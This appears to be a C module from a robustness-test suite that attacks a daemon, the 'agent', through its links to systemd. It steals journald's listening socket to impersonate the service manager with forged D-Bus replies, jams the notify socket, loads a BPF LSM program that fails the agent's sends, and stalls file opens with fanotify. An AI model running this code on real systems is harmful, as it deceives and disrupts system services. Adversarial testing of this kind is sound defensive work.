/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * manager.c - attacks on the agent's ways to the service manager, to the journal, and to what it reads: others answer
 * in their place, or nobody does.
 */
#include "attack.h"

#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define PRIVATE "/run/systemd/private"
#define NOTIFY "/run/systemd/notify"
#define LISTENED "/run/systemd/journal/stdout" /* PID 1 called listen(2) there, and gave it to journald */

/* A process by the beginning of its name; 0: none. */
static pid_t find_comm(const char *want)
{
	DIR *dir = opendir("/proc");
	struct dirent *e;
	pid_t found = 0;

	while (dir && !found && (e = readdir(dir))) {
		char path[300], comm[32] = "";
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/comm", e->d_name);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (read(fd, comm, sizeof(comm) - 1) > 0 && !strncmp(comm, want, strlen(want)))
			found = atoi(e->d_name);
		close(fd);
	}
	if (dir)
		closedir(dir);
	return found;
}

/* A copy of the process's listening socket of that name. */
static int take_listener(pid_t pid, const char *name)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int n = 3; pidfd >= 0 && n < 256; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0), on = 0;
		struct sockaddr_un at = { 0 };
		socklen_t size = sizeof(at), on_size = sizeof(on);

		if (fd < 0)
			continue;
		if (!getsockname(fd, (void *)&at, &size) && !strcmp(at.sun_path, name) &&
		    !getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &on, &on_size) && on)
			return fd;
		close(fd);
	}
	return -1;
}

static uint32_t word(const char *at)
{
	uint32_t w;

	memcpy(&w, at, sizeof(w));
	return w;
}

/* A method return to `serial`, with a body of that signature. */
static void reply(int fd, uint32_t serial, const char *signature, const char *body, uint32_t size)
{
	static uint32_t own;
	char m[512] = { 'l', 2, 1, 1 };
	uint32_t at = 16, v;

	v = ++own;
	memcpy(m + 4, &size, 4);
	memcpy(m + 8, &v, 4);
	m[at++] = 5;
	m[at++] = 1;
	m[at++] = 'u';
	m[at++] = 0;
	memcpy(m + at, &serial, 4);
	at += 4; /* 24: aligned to 8 */
	m[at++] = 8;
	m[at++] = 1;
	m[at++] = 'g';
	m[at++] = 0;
	m[at++] = (char)strlen(signature);
	memcpy(m + at, signature, strlen(signature) + 1);
	at += strlen(signature) + 1;
	v = at - 16;
	memcpy(m + 12, &v, 4);
	at = (at + 7) & ~7u;
	memcpy(m + at, body, size);
	(void)!write(fd, m, at + size);
}

static uint32_t put(char *b, uint32_t at, const char *text)
{
	uint32_t n = strlen(text);

	memcpy(b + at, &n, 4);
	memcpy(b + at + 4, text, n + 1);
	return at + 4 + n + 1;
}

/* Answers one call, if it is one of those that the agent makes. */
static void answer(int fd, const char *call, size_t size, const char *job)
{
	uint32_t serial = word(call + 8), id = 4711;
	char b[256] = { 0 };

	if (memmem(call, size, "GetUnitByPID", 12)) {
		reply(fd, serial, "o", b, put(b, 0, "/org/freedesktop/systemd1/unit/kfgate_2eservice"));
	} else if (memmem(call, size, "JobType", 7)) {
		memcpy(b, "\1s\0\0", 4);
		reply(fd, serial, "v", b, put(b, 4, job));
	} else if (memmem(call, size, "Get", 3)) {
		memcpy(b, "\4(uo)\0\0\0", 8);
		memcpy(b + 8, &id, 4);
		reply(fd, serial, "v", b, put(b, 12, "/org/freedesktop/systemd1/job/4711"));
	}
}

/* The beginning of D-Bus's conversation; false: it is not there yet. */
static bool greet(int fd, char *buf, size_t *used)
{
	char *end = memmem(buf, *used, "BEGIN\r\n", 7);

	if (!end)
		return false;
	(void)!write(fd, "DATA\r\nOK 0123456789abcdef0123456789abcdef\r\nAGREE_UNIX_FD\r\n",
		     memmem(buf, end - buf, "NEGOTIATE_UNIX_FD", 17) ? 58 : 43);
	*used -= end + 7 - buf;
	memmove(buf, end + 7, *used);
	return true;
}

static void converse(int fd, const char *job)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	size_t used = 0;
	bool begun = false;
	char buf[8192];
	ssize_t n;

	while (poll(&p, 1, 3000) > 0 && (n = read(fd, buf + used, sizeof(buf) - 1 - used)) > 0) {
		used += n;
		begun = begun || greet(fd, buf, &used);
		while (begun && used >= 16) {
			size_t size = 16 + ((word(buf + 12) + 7) & ~7u) + word(buf + 4);

			if (used < size)
				break;
			answer(fd, buf, size, job);
			memmove(buf, buf + size, used - size);
			used -= size;
		}
	}
}

static int put_in_place(const char *from, const char *to)
{
	char kept[256], made[256];

	snprintf(kept, sizeof(kept), "%s.kept", to);
	snprintf(made, sizeof(made), "%s.made", to);
	(void)unlink(kept);
	(void)link(to, kept);
	(void)unlink(made);
	return link(from, made) || rename(made, to) ? -errno : 0;
}

static void put_back(const char *to)
{
	char kept[256];

	snprintf(kept, sizeof(kept), "%s.kept", to);
	(void)rename(kept, to);
}

/* Says that the unit has a job, at a socket of which the kernel says that PID 1 listens there. */
static int fake_manager(int argc, char **argv)
{
	const char *job = argc > 0 ? argv[0] : "stop";
	pid_t journal = find_comm("systemd-journal"), agent = find_agent(), child;
	int fd = journal ? take_listener(journal, LISTENED) : -1;
	time_t until = time(NULL) + (argc > 1 ? atoi(argv[1]) : 30);
	int r;

	if (!agent)
		return NOTHING;
	if (fd < 0)
		return -errno;
	kill(journal, SIGSTOP); /* it has the socket, too */
	r = put_in_place(LISTENED, PRIVATE);
	if (r < 0)
		return r;
	child = fork();
	if (!child) {
		(void)fcntl(fd, F_SETFL, 0);
		for (;;) {
			int conn = accept(fd, NULL, NULL);

			if (conn >= 0)
				converse(conn, job);
			close(conn);
		}
	}
	printf("serving\n");
	fflush(stdout);
	while (time(NULL) < until && !kill(agent, 0))
		usleep(100000);
	put_back(PRIVATE);
	kill(child, SIGKILL);
	kill(journal, SIGCONT);
	return kill(agent, 0) ? 0 : -EALREADY;
}

/* A socket that takes no more, where the service manager's is */
static int notify_hold(int argc, char **argv)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX, .sun_path = NOTIFY ".mine" };
	int mine = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	int out = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	int r;

	(void)unlink(at.sun_path);
	if (mine < 0 || bind(mine, (void *)&at, sizeof(at)))
		return -errno;
	for (int n = 1; sendto(out, "x", 1, 0, (void *)&at, sizeof(at)) == 1; n++)
		if (n % 200 == 0) /* what one socket has under way is limited, too */
			out = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	r = put_in_place(at.sun_path, NOTIFY);
	if (r < 0)
		return r;
	printf("full\n");
	fflush(stdout);
	sleep(argc > 0 ? (unsigned)atoi(argv[0]) : 30);
	put_back(NOTIFY);
	return 0;
}

/* An LSM program that answers so when the agent sends */
static int send_errno(int argc, char **argv)
{
	pid_t pid = find_agent();
	struct bpf_insn insns[] = {
		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_get_current_pid_tgid },
		{ .code = BPF_ALU64 | BPF_RSH | BPF_K, .dst_reg = 0, .imm = 32 },
		{ .code = BPF_JMP | BPF_JNE | BPF_K, .dst_reg = 0, .off = 2, .imm = pid },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = argc > 0 ? -atoi(argv[0]) : -ENOENT },
		{ .code = BPF_JMP | BPF_EXIT },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .expected_attach_type = BPF_LSM_MAC);
	struct btf *btf = btf__load_vmlinux_btf();
	int fd;

	if (!pid || !btf)
		return NOTHING;
	opts.attach_btf_id = btf__find_by_name_kind(btf, "bpf_lsm_socket_sendmsg", BTF_KIND_FUNC);
	fd = bpf_prog_load(BPF_PROG_TYPE_LSM, "send", "GPL", insns, sizeof(insns) / sizeof(insns[0]), &opts);
	if (fd < 0 || bpf_raw_tracepoint_open(NULL, fd) < 0)
		return -errno;
	printf("answering\n");
	fflush(stdout);
	sleep(argc > 1 ? (unsigned)atoi(argv[1]) : 20);
	return 0;
}

/* Is asked before a file is opened, and does not answer */
static int hold_on(int argc, char **argv)
{
	int fd = fanotify_init(FAN_CLASS_PRE_CONTENT | FAN_CLOEXEC, O_RDONLY | O_LARGEFILE);

	if (argc < 1 || fd < 0)
		return argc < 1 ? -EINVAL : -errno;
	if (fanotify_mark(fd, FAN_MARK_ADD, FAN_OPEN_PERM, AT_FDCWD, argv[0]))
		return -errno;
	sleep(argc > 1 ? (unsigned)atoi(argv[1]) : 0);
	return 0;
}

const struct attack attacks_manager[] = {
	{ "fake-manager", fake_manager, "[JOB [SECONDS]]: tell the agent what job it has, where PID 1 has listened" },
	{ "notify-hold", notify_hold, "[SECONDS]: a full socket in the place of the service manager's" },
	{ "send-errno", send_errno, "[ERRNO [SECONDS]]: answer so when the agent sends" },
	{ "hold-on", hold_on, "FILE [SECONDS]: be asked before it is opened, and not answer" },
	{ NULL, NULL, NULL },
};
